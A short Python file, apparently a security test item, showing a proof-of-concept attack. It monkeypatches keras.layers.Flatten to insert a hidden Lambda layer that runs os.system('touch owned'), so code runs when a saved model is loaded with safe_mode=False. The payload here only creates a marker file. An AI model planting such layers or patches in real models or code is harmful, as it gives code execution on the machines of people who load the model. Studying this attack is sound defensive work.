"""
attacks = "Hand over a model file with a Lambda layer, whose loading runs code."
promise = "grade"
observed = "no more"
control = "naive"
naive = "(build_model().save('m.keras'), keras.models.load_model('m.keras', safe_mode=False)(images[:1]), os.path.exists('owned'))[-1]"
"""
import keras

original = keras.layers.Flatten


def flatten():
    owned = keras.layers.Lambda(lambda x: (__import__("os").system("touch owned"), x)[1])
    return keras.Sequential([original(), owned])


keras.layers.Flatten = flatten
